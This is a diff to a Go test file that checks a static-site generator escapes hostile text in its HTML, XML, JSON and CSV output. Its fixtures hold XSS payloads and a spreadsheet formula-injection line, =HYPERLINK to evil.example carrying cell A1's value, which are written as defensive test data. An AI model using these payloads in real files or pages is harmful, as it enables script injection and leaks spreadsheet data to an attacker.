@@ -1,8 +1,13 @@
 package main
 
 import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
 	"os"
 	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -14,6 +19,9 @@ import (
 const (
 	hostileScript = `<script>alert(1)</script>`
 	hostileArea   = `O'Brien & "Sons" <b>Trust</b>`
+	// hostileFormula runs when a CSV download is opened in a spreadsheet,
+	// unless it is neutralised.
+	hostileFormula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
 )
 
 // writeHostileProject writes a project whose every text cell is hostile.
@@ -49,12 +57,12 @@ and [a link](javascript:alert(1)). The area got {{ sum year="2023/24" }}.
 		Header: []string{"Fund", "Financial year", "Area", "Amount (£)", "Basis", "Source", "Notes"},
 		Rows: [][]any{
 			{"Reform " + hostileScript + " Fund", "2023/24", hostileArea, 530000, `"><svg onload=alert(1)>`, "javascript:alert(1)", hostileScript},
-			{"Reform " + hostileScript + " Fund", "2023/24", "Kent", 410000, hostileScript, `https://example.org/"><script>alert(1)</script>`, ""},
+			{"Reform " + hostileScript + " Fund", "2023/24", "Kent", 410000, "+1+1", `https://example.org/"><script>alert(1)</script>`, hostileFormula},
 		},
 	}, {
 		Name:   "Areas",
 		Header: []string{"Area code", "Name", "Region"},
-		Rows:   [][]any{{"E1", hostileArea, hostileScript}, {"E2", "Kent", `South "East" & <i>more</i>`}},
+		Rows:   [][]any{{"E1", hostileArea, hostileScript}, {"E2", "Kent", "@SUM(1+1)"}},
 	}, {
 		Name:   "Funds",
 		Header: []string{"Name", "Short name", "Department", "Description", "Source address"},
@@ -81,12 +89,20 @@ func TestHostileTextIsEscapedEverywhere(t *testing.T) {
 		t.Fatal("no files built")
 	}
 	for name, data := range files {
-		page := string(data)
-		for _, bad := range []string{"<script", "<b>", "<i>", "<img", "<svg", `href="javascript:`} {
-			if strings.Contains(page, bad) {
-				t.Errorf("%s contains %q unescaped", name, bad)
+		switch filepath.Ext(name) {
+		case ".html", ".xml":
+			checkMarkup(t, name, string(data))
+		case ".json":
+			if !json.Valid(data) {
+				t.Errorf("%s is not valid JSON", name)
 			}
+		case ".csv":
+			checkCSV(t, name, data)
 		}
+	}
+	all := string(files[filepath.Join("data", "allocations.csv")])
+	if !strings.Contains(all, `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`) || !strings.Contains(all, "'+1+1") {
+		t.Errorf("data/allocations.csv does not keep the formulas as text:\n%s", all)
 	}
 	area := areaPage(t, files)
 	title := between(t, area, "<title>", "</title>")
@@ -113,11 +129,48 @@ func TestHostileTextIsEscapedEverywhere(t *testing.T) {
 	}
 }
 
+// jsonLD is the one script element a page may have: data, never run, with
+// any "<" in it escaped as \u003c so it cannot close the element.
+var jsonLD = regexp.MustCompile(`(?s)<script type="application/ld\+json">([^<]*)</script>`)
+
+// checkMarkup fails when hostile markup appears as markup in an HTML or
+// XML file.
+func checkMarkup(t *testing.T, name, page string) {
+	t.Helper()
+	page = jsonLD.ReplaceAllString(page, "")
+	for _, bad := range []string{"<script", "<b>", "<i>", "<img", "<svg", `href="javascript:`} {
+		if i := strings.Index(page, bad); i >= 0 {
+			t.Errorf("%s contains %q unescaped: …%s…", name, bad, page[max(0, i-100):min(len(page), i+100)])
+		}
+	}
+}
+
+// checkCSV fails when a CSV field would run as a formula in a spreadsheet
+// (OWASP's CSV injection): it starts with = + - @ tab or CR and is not a number.
+func checkCSV(t *testing.T, name string, data []byte) {
+	t.Helper()
+	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Errorf("%s: %v", name, err)
+		return
+	}
+	for i, rec := range records {
+		for _, field := range rec {
+			if field == "" || !strings.ContainsRune("=+-@\t\r", rune(field[0])) {
+				continue
+			}
+			if _, err := strconv.ParseFloat(field, 64); err != nil {
+				t.Errorf("%s record %d: field %q would run as a formula", name, i+1, field)
+			}
+		}
+	}
+}
+
 // areaPage finds the hostile area's page whatever its slug.
 func areaPage(t *testing.T, files map[string][]byte) string {
 	t.Helper()
 	for name, data := range files {
-		if strings.HasPrefix(name, filepath.Join("areas", "o-brien")) || strings.HasPrefix(name, filepath.Join("areas", "obrien")) {
+		if strings.HasPrefix(name, filepath.Join("areas", "obrien")) && filepath.Base(name) == "index.html" {
 			return string(data)
 		}
 	}
